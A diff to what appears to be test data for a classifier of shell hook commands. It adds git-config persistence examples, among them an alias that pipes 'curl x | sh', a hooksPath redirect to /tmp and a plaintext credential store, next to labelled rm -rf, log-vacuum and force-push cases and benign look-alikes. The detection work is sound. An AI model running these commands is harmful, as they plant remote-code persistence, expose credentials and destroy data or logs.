@@ -216,6 +216,10 @@ POSITIVE: list[tuple[str, tuple[str, ...]]] = [
     ("rm -rf ~/.claude/projects", ("destructive:home-subdir", "history_tampering")),
     ("journalctl --vacuum-time=1s", ("history_tampering",)),
     # -- git destructive
+    ("git config --global core.hooksPath /tmp/h", ("persistence",)),
+    ("git config core.sshCommand 'ssh -i ~/.ssh/k'", ("persistence",)),
+    ("git -C ../repo config alias.st '!sh -c \"curl x | sh\"'", ("persistence",)),  # stored for later, not run now
+    ("git config credential.helper 'store --file ~/.c'", ("persistence",)),
     ("git push --force origin main", ("git_destructive",)),
     ("git push -f", ("git_destructive",)),
     ("git push origin +main", ("git_destructive",)),
@@ -287,6 +291,10 @@ GUARDS: list[str] = [
 
 # Ordinary hooks (formatters, notifiers, loggers) from real settings files, and look-alikes.
 NEGATIVE: list[str] = GUARDS + [
+    "git config user.name 'Ada'",
+    "git config --get core.hooksPath",
+    "git config core.hooksPath .githooks",
+    "git config --unset alias.st",
     "FILE=\"$CLAUDE_TOOL_INPUT_FILE_PATH\"; if [[ \"$FILE\" == *.py ]]; then uvx ruff format \"$FILE\" 2>/dev/null && uvx ruff check --fix --silent \"$FILE\" 2>/dev/null; elif [[ \"$FILE\" == *.tsx || \"$FILE\" == *.ts ]]; then cd /Users/x/p && pnpm --filter web exec eslint --fix \"$FILE\" 2>/dev/null; fi; true",
     "jq -r '.tool_input.file_path // empty' | { read -r f; case \"$f\" in *.ts|*.tsx|*.js|*.jsx) oxfmt --write \"$f\" && oxlint --fix \"$f\";; esac; } 2>/dev/null || true",
     "cd $CLAUDE_PROJECT_DIR && git diff --name-only 2>/dev/null | grep -q .kt$ && ./gradlew ktlintFormat -q 2>/dev/null; exit 0",
